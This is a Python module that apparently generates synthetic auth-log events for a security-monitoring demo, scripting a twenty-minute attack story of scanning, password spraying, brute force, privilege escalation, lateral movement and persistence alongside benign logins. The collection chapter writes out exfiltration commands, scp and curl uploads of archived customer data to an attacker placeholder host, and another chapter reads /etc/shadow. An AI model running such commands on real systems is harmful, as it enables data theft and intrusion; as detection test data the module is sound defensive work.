"""A working morning with everything in it: from scanners over a break-in to stolen data and a way back in."""

from __future__ import annotations

from collections.abc import Callable

from socterm.demo.cast import (
    ALICE,
    ATTACKER,
    BOB,
    BORG,
    BOTNET,
    CAROL,
    DANA,
    DB,
    ENUMERATOR,
    INTRUDER,
    NAMES_GUESSED,
    OFFERS,
    POSTGRES,
    ROOT,
    SCANNER,
    SPRAYER,
    WEB,
    WWW,
)
from socterm.demo.model import Chapter, Story
from socterm.demo.noise import INTERNET, WORKING
from socterm.demo.pen import AUTH, Pen, penned
from socterm.demo.stories.story_auth_truth import ALERTS, PARTS, QUIET

TTY = "pts/1"


def _benign_mistype(pen: Pen) -> None:
    peer = pen.connect(WEB, BOB.address)
    at = pen.failed_login(140.0, peer, BOB.name, tries=2, gap=3.0, end="")
    login = pen.login(at + 4.0, peer, BOB, method="password")
    pen.logout(620.0, login)


def _benign_sudo_mistype(pen: Pen) -> None:
    pen.sudo_refused(
        766.0, DB, DANA, "1 incorrect password attempt", "/usr/bin/less /var/log/syslog", tty="pts/1"
    )
    pen.sudo(775.0, DB, DANA, "/usr/bin/less /var/log/syslog", tty="pts/1", lasts=25.0)


def _benign_many_keys(pen: Pen) -> None:
    peer = pen.connect(WEB, CAROL.address)
    offered = f"Postponed publickey for {CAROL.name} from {peer.address} port {peer.port} ssh2 [preauth]"
    login = pen.login(pen.sshd(455.0, peer, offered), peer, CAROL)
    pen.logout(580.0, login)


def _benign_backup(pen: Pen) -> None:
    pen.cron(
        541.2,
        WEB,
        ROOT,
        "/usr/local/sbin/backup.sh && /usr/bin/rsync -a /var/backups/ borg@db01:/srv/backup/web01/",
        lasts=95.0,
    )
    login = pen.login(560.0, pen.connect(DB, BORG.address), BORG)
    pen.logout(634.0, login)


def _scanner(pen: Pen) -> None:
    for number in range(8):
        pen.bad_peer(70.0 + 4.7 * number, pen.connect(WEB, SCANNER), number, OFFERS[0])


def _spraying(pen: Pen) -> None:
    """One common password on nine names, slowly enough to stay under a counter of failures."""
    names = ("alice", "carol", "dana", "deploy", "www-data", "postgres", "borg", "backup", "sales")
    for number, name in enumerate(names):
        pen.failed_login(150.0 + 31.0 * number, pen.connect(DB, SPRAYER), name, gap=1.8)


def _enumeration(pen: Pen) -> None:
    for number, name in enumerate(NAMES_GUESSED):
        pen.failed_login(300.0 + 3.3 * number, pen.connect(WEB, ENUMERATOR), name, gap=1.7, end="bye")


def _brute_force(pen: Pen) -> None:
    """Up to six passwords a connection: 48 failures on seven names in under two minutes."""
    plan = (("root", 6), ("admin", 6), ("alice", 6), ("bob", 3), ("root", 6), ("deploy", 3), ("alice", 6),
            ("oracle", 3), ("alice", 3), ("postgres", 3), ("alice", 3))  # fmt: skip
    for number, (name, tries) in enumerate(plan):
        end = "max" if tries == 6 else "closed"
        pen.failed_login(
            470.0 + 8.5 * number, pen.connect(WEB, ATTACKER), name, tries=tries, gap=2.0, end=end
        )


def _break_in(pen: Pen) -> None:
    login = pen.login(589.0, pen.connect(WEB, ATTACKER), ALICE, method="password")
    pen.logout(1192.0, login)


def _privilege(pen: Pen) -> None:
    pen.sudo_refused(618.0, WEB, ALICE, "3 incorrect password attempts", "/usr/bin/id", tty=TTY)
    for number in range(3):
        pen.su_failed(632.0 + 5.0 * number, WEB, ALICE, "root", tty=TTY)
    pen.sudo(659.0, WEB, ALICE, "/bin/bash", tty=TTY, lasts=490.0)


def _collection(pen: Pen) -> None:
    pen.sudo(702.0, WEB, ALICE, "/usr/bin/tar czf /tmp/.cache.tgz /srv/www/customers", tty=TTY, lasts=9.0)
    pen.sudo(741.0, WEB, ALICE, f"/usr/bin/scp -q /tmp/.cache.tgz drop@{ATTACKER}:/tmp/", tty=TTY, lasts=12.0)
    pen.sudo(
        768.0, WEB, ALICE, f"/usr/bin/curl -s -T /tmp/.cache.tgz https://{ATTACKER}/u", tty=TTY, lasts=15.0
    )


def _persistence(pen: Pen) -> None:
    at = pen.new_account(820.0, WEB, INTRUDER, tty=TTY)
    pen.set_password(at + 3.0, WEB, INTRUDER.name)
    pen.add_to_group(at + 7.0, WEB, INTRUDER.name, "sudo")


def _service_account(pen: Pen) -> None:
    """A key planted for an account no person logs in with."""
    login = pen.login(866.0, pen.connect(WEB, ATTACKER), WWW)
    pen.logout(940.0, login)


def _lateral(pen: Pen) -> None:
    """On to the database host, where alice may not use sudo; then with root's own password."""
    login = pen.login(890.0, pen.connect(DB, WEB.address), ALICE, method="password")
    pen.sudo_refused(902.0, DB, ALICE, "user NOT in sudoers", "/usr/bin/cat /etc/shadow", tty=TTY)
    pen.logout(960.0, login)
    root = pen.login(975.0, pen.connect(DB, ATTACKER), ROOT, method="password")
    pen.su(990.0, DB, ROOT, POSTGRES, tty="pts/2", lasts=80.0)
    pen.logout(1150.0, root)


def _distributed(pen: Pen) -> None:
    """One user, twelve addresses, one try each: no address is ever counted twice."""
    for number, address in enumerate(BOTNET):
        pen.failed_login(700.0 + 39.0 * number, pen.connect(DB, address), CAROL.name, gap=1.9, end="bye")


_WRITERS: tuple[Callable[[Pen], None], ...] = (
    _benign_mistype,
    _benign_sudo_mistype,
    _benign_many_keys,
    _benign_backup,
    _scanner,
    _spraying,
    _enumeration,
    _brute_force,
    _break_in,
    _privilege,
    _collection,
    _persistence,
    _service_account,
    _lateral,
    _distributed,
)

STORIES = (
    Story(
        name="story_auth",
        says="twenty minutes of a busy server under attack: guessing, break-in, root, data, a way back",
        logs=(AUTH,),
        length=1230.0,
        chapters=tuple(
            Chapter(label, says, penned(write))
            for (label, says), write in zip(PARTS.items(), _WRITERS, strict=True)
        ),
        noise=(WORKING, INTERNET),
        alerts=ALERTS,
        quiet=QUIET,
    ),
)
